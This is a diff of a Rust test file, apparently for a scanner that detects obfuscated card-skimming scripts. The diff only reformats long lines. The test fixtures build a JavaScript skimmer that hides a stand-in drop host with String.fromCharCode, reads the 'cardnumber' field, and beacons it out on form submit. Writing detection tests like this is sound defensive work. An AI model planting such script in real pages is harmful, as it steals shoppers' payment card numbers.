@@ -19,7 +19,8 @@ fn eval_of_base64_that_reads_the_card_and_beacons_it() {
 
 #[test]
 fn from_char_code_chain_hides_the_drop_host() {
-    let host: String = "https://baways.example/gate".chars().map(|c| (c as u32).to_string()).collect::<Vec<_>>().join(",");
+    let host: String =
+        "https://baways.example/gate".chars().map(|c| (c as u32).to_string()).collect::<Vec<_>>().join(",");
     let text = format!(
         "var u=String.fromCharCode({host});var c=document.getElementsByName('cardnumber')[0];\
          document.forms[0].onsubmit=function(){{new Image().src=u+'?'+c.value}};"
@@ -113,7 +114,8 @@ fn base64_encode(text: &str) -> String {
     let bytes = text.as_bytes();
     let mut out = String::new();
     for chunk in bytes.chunks(3) {
-        let n = (chunk[0] as u32) << 16 | (*chunk.get(1).unwrap_or(&0) as u32) << 8 | *chunk.get(2).unwrap_or(&0) as u32;
+        let n =
+            (chunk[0] as u32) << 16 | (*chunk.get(1).unwrap_or(&0) as u32) << 8 | *chunk.get(2).unwrap_or(&0) as u32;
         for i in 0..4 {
             if i <= chunk.len() {
                 out.push(ALPHABET[(n >> (18 - 6 * i) & 63) as usize] as char);
